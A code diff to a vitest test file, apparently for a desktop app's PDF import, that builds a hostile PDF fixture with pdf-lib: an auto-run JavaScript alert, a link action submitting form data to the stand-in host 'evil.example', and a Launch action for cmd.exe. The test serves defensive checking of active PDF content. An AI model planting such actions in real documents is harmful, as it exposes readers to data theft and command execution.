@@ -1,5 +1,5 @@
 import { join } from 'node:path';
-import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
+import { PDFDict, PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { runImport } from '../electron/core/import/runImport';
 import type { Vault } from '../electron/core/vault/Vault';
@@ -19,15 +19,18 @@ async function activePdf(options: { objectStreams: boolean; attachment?: boolean
   const context = document.context;
   const openScript = context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of("app.alert('Hello');") });
   document.catalog.set(PDFName.of('OpenAction'), context.register(openScript));
-  const link = (y: number, action: Record<string, unknown>) =>
+  const link = (y: number, action: PDFDict) =>
     context.register(
       context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [56, y, 256, y + 20], Border: [0, 0, 0], A: action }),
     );
   page.node.set(
     PDFName.of('Annots'),
     context.obj([
-      link(600, { Type: 'Action', S: 'JavaScript', JS: PDFString.of('this.submitForm("https://evil.example/");') }),
-      link(560, { Type: 'Action', S: 'Launch', F: PDFString.of('cmd.exe') }),
+      link(
+        600,
+        context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('this.submitForm("https://evil.example/");') }),
+      ),
+      link(560, context.obj({ Type: 'Action', S: 'Launch', F: PDFString.of('cmd.exe') })),
     ]),
   );
   if (options.attachment) {
